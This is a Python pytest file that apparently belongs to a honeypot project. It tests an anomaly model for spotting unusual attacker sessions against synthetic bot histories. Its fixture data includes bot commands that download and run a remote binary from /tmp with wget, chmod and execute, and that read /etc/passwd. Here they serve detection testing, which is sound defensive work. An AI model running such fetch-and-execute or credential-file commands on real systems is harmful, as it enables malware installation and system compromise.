"""Anomaly scoring trained and evaluated on synthetic histories with known outliers; precision
and recall are printed (`pytest -s`)."""

from __future__ import annotations

import random
import sqlite3
from pathlib import Path

import pytest

from sandtrap.analysis.anomaly import (
    AnomalyModel,
    FeatureCounter,
    SessionFeatures,
    Vocabulary,
    history_from_index,
)
from sandtrap.store.index import apply, connect

BOT_SCRIPTS = [
    ["uname -a", "nproc", "cat /proc/cpuinfo | grep name", "w"],
    ["cd /tmp", "wget http://{ip}/x86", "chmod +x x86", "./x86"],
    ["echo ok", "cat /etc/passwd | grep sh", "exit"],
]


def normal(rng: random.Random, vocabulary: Vocabulary) -> SessionFeatures:
    counter = FeatureCounter()
    script = rng.choice(BOT_SCRIPTS)
    ip = ".".join(str(rng.randrange(1, 255)) for _ in range(4))
    counter.commands = [c.format(ip=ip) for c in script]
    counter.auth_attempts = rng.randint(1, 4)
    counter.channels = 1
    counter.techniques = rng.randint(0, 3)
    closed = {
        "bytes_in": rng.randint(200, 2000),
        "bytes_out": rng.randint(1000, 20000),
        "duration": rng.uniform(1, 20),
    }
    return counter.finish(closed, vocabulary)


def subtle(rng: random.Random, vocabulary: Vocabulary) -> SessionFeatures:
    """A bot's usual script that then moved data out and left files: only sizes and counts."""
    counter = FeatureCounter()
    counter.commands = ["uname -a", "nproc", "cat /proc/cpuinfo | grep name", "w"]
    counter.auth_attempts = 2
    counter.channels = 1
    counter.artifacts = rng.randint(3, 6)
    counter.network_events = rng.randint(5, 15)
    closed = {"bytes_in": rng.randint(2_000_000, 9_000_000), "bytes_out": 4000, "duration": 300}
    return counter.finish(closed, vocabulary)


def outlier(rng: random.Random, vocabulary: Vocabulary, n: int) -> SessionFeatures:
    counter = FeatureCounter()
    counter.commands = [f"vi /srv/app{n}/config{i}.yml; make -C /opt/p{n}{i}" for i in range(60)]
    counter.auth_attempts = 1
    counter.channels = rng.randint(3, 8)
    counter.artifacts = rng.randint(5, 30)
    counter.techniques = rng.randint(6, 12)
    counter.network_events = rng.randint(20, 200)
    closed = {
        "bytes_in": rng.randint(5_000_000, 50_000_000),
        "bytes_out": rng.randint(1_000_000, 90_000_000),
        "duration": rng.uniform(1800, 7200),
    }
    return counter.finish(closed, vocabulary)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_known_outliers_found_with_precision_and_recall(seed: int) -> None:
    rng = random.Random(seed)
    vocabulary = Vocabulary()
    history = [normal(rng, vocabulary) for _ in range(490)]
    truth = set(rng.sample(range(500), 10))
    sessions: list[SessionFeatures] = []
    subtle_ones = set(sorted(truth)[:5])
    for index in range(500):
        if index in subtle_ones:
            sessions.append(subtle(rng, vocabulary))
        elif index in truth:
            sessions.append(outlier(rng, vocabulary, index))
        else:
            sessions.append(history.pop())
    model = AnomalyModel(sessions, percentile=98.0, seed=seed)
    scores = model.scores(sessions)
    flagged = {i for i, score in enumerate(scores) if score > model.threshold}
    precision = len(flagged & truth) / max(len(flagged), 1)
    recall = len(flagged & truth) / len(truth)
    print(f"anomaly seed {seed}: {len(flagged)} flagged, precision {precision:.2f}", end="")
    print(f", recall {recall:.2f}")
    assert precision >= 0.8
    assert recall >= 0.9
    # A new session like the bots scores below the threshold; a new outlier above it.
    assert model.score(normal(rng, vocabulary)) < model.threshold
    assert model.score(outlier(rng, vocabulary, 999)) > model.threshold


def test_novelty_and_unique_ratio() -> None:
    vocabulary = Vocabulary()
    assert vocabulary.novelty_and_learn(["uname -a; uname -a", "wget http://1.2.3.4/x"]) == (
        3,
        2 / 3,
        1.0,
    )
    # The same script from another host: nothing new.
    assert vocabulary.novelty_and_learn(["wget http://5.6.7.8/x"])[2] == 0.0
    assert vocabulary.novelty_and_learn([]) == (0, 0.0, 0.0)


def test_counter_from_records_equals_history_from_index(tmp_path: Path) -> None:
    records = [
        {"eventid": "session.connect", "session": "s1", "timestamp": "2026-11-29T10:00:00Z"},
        {"eventid": "auth.failed", "session": "s1", "username": "root", "password": "x"},
        {"eventid": "auth.success", "session": "s1", "username": "root", "password": "y"},
        {"eventid": "session.shell", "session": "s1", "channel": 0},
        {"eventid": "session.command", "session": "s1", "channel": 0, "input": "uname -a"},
        {"eventid": "session.attack", "session": "s1", "technique": "T1082", "source": "x"},
        {"eventid": "sandbox.artifact", "session": "s1", "sha256": "a" * 64, "path": "/tmp/a"},
        {"eventid": "network.dns", "session": "s1"},
        {"eventid": "network.http", "session": "s1"},
        {
            "eventid": "session.closed",
            "session": "s1",
            "timestamp": "2026-11-29T10:01:00Z",
            "bytes_in": 100,
            "bytes_out": 900,
            "duration": 60.0,
        },
    ]
    counter = FeatureCounter()
    for record in records[:-1]:
        counter.add(record)
    live = counter.finish(records[-1], Vocabulary())
    db = connect(tmp_path / "i.db")
    apply(db, records)
    db.commit()
    (stored,) = history_from_index(db, Vocabulary(), 10)
    assert stored == live
    assert (live.commands, live.auth_attempts, live.network_events, live.artifacts) == (1, 2, 2, 1)
    assert isinstance(db, sqlite3.Connection)
